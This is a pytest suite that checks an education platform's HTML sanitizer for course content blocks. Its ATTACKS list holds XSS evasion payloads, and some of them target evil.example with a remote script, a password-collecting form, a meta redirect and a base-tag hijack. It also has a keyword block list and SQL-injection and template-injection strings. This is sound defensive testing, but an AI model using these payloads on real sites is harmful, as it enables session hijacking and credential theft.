"""Block documents: what passes, what is cleaned, what is refused and where."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edusync.courses.blocks import (
    clean_document,
    clean_inline,
    document_files,
    document_text,
    inline_text,
)
from edusync.kernel.problems import ValidationProblem

FILE = "01890a5d-ac96-774b-bcce-b302099a8057"

# Known ways to smuggle code through HTML: after OWASP's evasion cheat sheet and cases of ammonia's own tests.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick='alert(1)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://ok.example' target=_top onmouseover=alert(1)>x</a>",
    "<span data-latex='x' onload=alert(1)>x</span>",
    "<p><!--<img src='--><img src=x onerror=alert(1)//'></p>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<b <script>alert(1)</script>0",
    "</p><script>alert(1)</script><p>",
]
FORBIDDEN = (
    *(
        "<script",
        "onerror",
        "onclick",
        "onload",
        "onmouseover",
        "ontoggle",
        "javascript:",
        "vbscript:",
        "data:text",
    ),
    *(
        "<iframe",
        "<svg",
        "<img",
        "<style",
        "style=",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<link",
        "<meta",
        "<base",
    ),
)


def blocks_of(*blocks: dict[str, Any]) -> list[dict[str, Any]]:
    return clean_document({"version": 1, "blocks": list(blocks)})["blocks"]


def tags_only(html: str) -> str:
    """The markup of cleaned HTML: its text is escaped and cannot do harm."""
    import re

    return "".join(re.findall(r"<[^>]*>", html)).lower()


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", ["text", "callout", "quote", "table"])
def test_no_attack_survives(attack: str, kind: str) -> None:
    source = {"type": kind, "html": attack, "header": [attack], "rows": [[attack]], "tone": "info"}
    (block,) = blocks_of(source)
    cells = [block["html"]] if kind != "table" else [*block["header"], *block["rows"][0]]
    for html in cells:
        assert not any(word in tags_only(html) for word in FORBIDDEN), html
        assert clean_inline(html) == html


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<a href='", "'>", '"', "<!--", "-->", "&lt;", "text"]),
        max_size=8,
    )
)
def test_cleaning_is_final_whatever_is_combined(parts: list[str]) -> None:
    once = clean_inline("".join(parts))
    assert not any(word in tags_only(once) for word in FORBIDDEN)
    assert clean_inline(once) == once


def test_allowed_markup_passes_unchanged() -> None:
    html = (
        "<p>Some <strong>bold</strong>, <em>soft</em>, H<sub>2</sub>O, <code>x &lt; 1</code>, <kbd>Tab</kbd>, <mark>m</mark>"
        '<br>and <span data-latex="a^2">a^2</span></p><ol start="3"><li>three</li></ol><blockquote>q</blockquote>'
        "<dl><dt>t</dt><dd>d</dd></dl><pre>p\n  q</pre><hr><h5>h</h5>"
        '<abbr title="HyperText">HTML</abbr><s>old</s><u>u</u>'
    )
    (block,) = blocks_of({"type": "text", "html": html})
    assert block["html"] == html


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.org/a?b=c&d=e#f", "https://example.org/a?b=c&amp;d=e#f"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("/learn/soil/12", "/learn/soil/12"),
        ("#part", "#part"),
        ("https://example.org/a b.pdf", "https://example.org/a%20b.pdf"),
        ("ftp://example.org", None),
        ("https:\\\\evil.example", None),
        ("file:///etc/passwd", None),
    ],
)
def test_links_keep_only_safe_targets(href: str, kept: str | None) -> None:
    html = clean_inline(f'<a href="{href}">x</a>')
    expected = f' href="{kept}"' if kept else ""
    assert html == f'<a{expected} rel="noopener noreferrer">x</a>'


def test_every_block_keeps_its_fields() -> None:
    sources = [
        {"type": "text", "html": "<p>x</p>"},
        {"type": "heading", "level": 3, "text": "Über <b>alles</b>"},
        {
            "type": "image",
            "file": None,
            "src": "https://example.org/x.png",
            "alt": "A",
            "caption": "C",
            "width": 5,
        },
        {"type": "code", "code": "if a < b:\n\tpass", "language": "python"},
        {"type": "callout", "tone": "challenge", "title": "Try", "html": "<p>y</p>", "is_collapsed": True},
        {"type": "table", "caption": "T", "header": ["a"], "rows": [["<b>1</b>"]]},
        {"type": "math", "latex": "\\frac{a}{b}"},
        {"type": "embed", "provider": "youtube", "id": "dQw4w9WgXcQ", "title": "Film"},
        {
            "type": "file",
            "file": FILE,
            "name": "a.pdf",
            "size_bytes": 5,
            "media_type": "application/pdf",
            "url": "",
        },
        {
            "type": "video",
            "file": FILE,
            "title": "V",
            "captions": [{"language": "en", "label": "E", "url": "/files/x/e.vtt"}],
        },
        {"type": "link_card", "url": "https://example.org", "title": "L", "summary": "S"},
        {"type": "quote", "html": "<p>q</p>", "source": "Somebody"},
    ]
    cleaned = blocks_of(*sources)
    for source, block in zip(sources, cleaned, strict=True):
        assert {name: block[name] for name in source} == source
    assert cleaned[7]["block"] == "b8"
    assert clean_document({"version": 1, "blocks": cleaned})["blocks"] == cleaned


def test_unknown_fields_are_dropped_and_ids_made_unique() -> None:
    first, second, third = blocks_of(
        {"type": "text", "html": "a", "id": "intro", "onclick": "x"},
        {"type": "text", "html": "b", "id": "intro"},
        {"type": "text", "html": "c", "id": "<bad id>"},
    )
    assert (first["id"], "onclick" in first) == ("intro", False)
    assert len({first["id"], second["id"], third["id"]}) == 3


@pytest.mark.parametrize(
    ("document", "pointers"),
    [
        ([], [""]),
        ("text", [""]),
        (None, [""]),
        ({"version": 2, "blocks": []}, ["/version"]),
        ({"blocks": {}}, ["/blocks"]),
        ({"blocks": ["text"]}, ["/blocks/0"]),
        ({"blocks": [{"type": "applet"}]}, ["/blocks/0/type"]),
        ({"blocks": [{"type": ["text"]}]}, ["/blocks/0/type"]),
        ({"blocks": [{"type": "text", "html": 5}]}, ["/blocks/0/html"]),
        ({"blocks": [{"type": "heading", "level": 1, "text": ""}]}, ["/blocks/0/level"]),
        ({"blocks": [{"type": "heading", "level": True, "text": "x"}]}, ["/blocks/0/level"]),
        (
            {"blocks": [{"type": "image", "file": "x", "src": "javascript:a"}]},
            ["/blocks/0/file", "/blocks/0/src"],
        ),
        ({"blocks": [{"type": "image", "src": "//evil.example/x.png"}]}, ["/blocks/0/src"]),
        ({"blocks": [{"type": "image", "src": "data:image/png;base64,xx"}]}, ["/blocks/0/src"]),
        ({"blocks": [{"type": "callout", "tone": "loud"}]}, ["/blocks/0/tone"]),
        ({"blocks": [{"type": "callout", "is_collapsed": "yes"}]}, ["/blocks/0/is_collapsed"]),
        ({"blocks": [{"type": "table", "rows": [["a"], "b"]}]}, ["/blocks/0/rows/1"]),
        ({"blocks": [{"type": "table", "rows": [["a", 7]]}]}, ["/blocks/0/rows/0/1"]),
        (
            {"blocks": [{"type": "embed", "provider": "tube", "id": "../x"}]},
            ["/blocks/0/provider", "/blocks/0/id"],
        ),
        ({"blocks": [{"type": "link_card", "url": "javascript:alert(1)"}]}, ["/blocks/0/url"]),
        (
            {"blocks": [{"type": "text", "html": "x"}, {"type": "video", "captions": [{"language": "en"}]}]},
            ["/blocks/1/captions/0/url"],
        ),
        ({"blocks": [{"type": "text", "html": "x" * 200_001}]}, ["/blocks/0/html"]),
        ({"blocks": [{"type": "text", "html": ""}] * 2_001}, ["/blocks"]),
    ],
)
def test_faults_are_named_by_pointer(document: Any, pointers: list[str]) -> None:
    with pytest.raises(ValidationProblem) as caught:
        clean_document(document)
    assert [error.pointer for error in caught.value.errors] == pointers
    with pytest.raises(ValidationProblem) as caught:
        clean_document(document, pointer="/overview")
    assert [error.pointer for error in caught.value.errors] == [f"/overview{pointer}" for pointer in pointers]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
KINDS = [
    "text",
    "heading",
    "image",
    "code",
    "callout",
    "table",
    "math",
    "embed",
    "file",
    "video",
    "link_card",
    "quote",
]
NAMES = [
    "html",
    "text",
    "level",
    "file",
    "src",
    "rows",
    "header",
    "captions",
    "provider",
    "id",
    "url",
    "latex",
    "tone",
]
some_block = st.builds(
    lambda kind, rest: {**rest, "type": kind},
    st.sampled_from(KINDS),
    st.dictionaries(st.sampled_from(NAMES), json_values, max_size=4),
)


@given(st.lists(some_block, max_size=4))
def test_any_json_is_either_clean_or_a_problem(blocks: list[dict[str, Any]]) -> None:
    try:
        cleaned = clean_document({"version": 1, "blocks": blocks})
    except ValidationProblem:
        return
    assert clean_document(cleaned) == cleaned
    assert isinstance(document_text(cleaned), str)
    document_files(cleaned)


def test_naughty_text_is_stored_faithfully() -> None:
    naughty = [
        "'; DROP TABLE x; --",
        "⁰⁴⁵₀₁₂",
        "田中さんにあげて下さい",
        "👩‍👩‍👧‍👦",
        "הָיְתָה",
        "ﷺ",
        "Ω≈ç√∫",
        "<b>not bold</b>",
        "${7*7}",
        "%s%n",
        "\t\n",
    ]
    for text in naughty:
        heading, code = blocks_of(
            {"type": "heading", "level": 2, "text": f"x{text}"}, {"type": "code", "code": text}
        )
        assert (heading["text"], code["code"]) == (f"x{text}", text)
        assert json.loads(json.dumps(code)) == code


def test_text_of_a_document_is_readable() -> None:
    document = {
        "version": 1,
        "blocks": blocks_of(
            {"type": "heading", "level": 2, "text": "Soil & life"},
            {"type": "text", "html": "<p>One<br>two &amp; three</p><ul><li>four</li><li>five</li></ul>"},
            {"type": "table", "header": ["a", "b"], "rows": [["<b>c</b>", "d"]]},
            {"type": "image", "src": "https://example.org/x.png", "alt": "A worm", "caption": "Worm"},
            {"type": "callout", "title": "Note", "html": "<p>six</p>"},
            {"type": "quote", "html": "seven", "source": "Eight"},
            {"type": "math", "latex": "x^2"},
            {"type": "code", "code": "print(1)"},
        ),
    }
    assert document_text(document).split("\n") == [
        *(
            "Soil & life",
            "One",
            "two & three",
            "four",
            "five",
            "a b",
            "c d",
            "A worm",
            "Worm",
            "Note",
            "six",
            "seven",
        ),
        *("Eight", "print(1)"),
    ]
    assert inline_text("plain") == "plain"
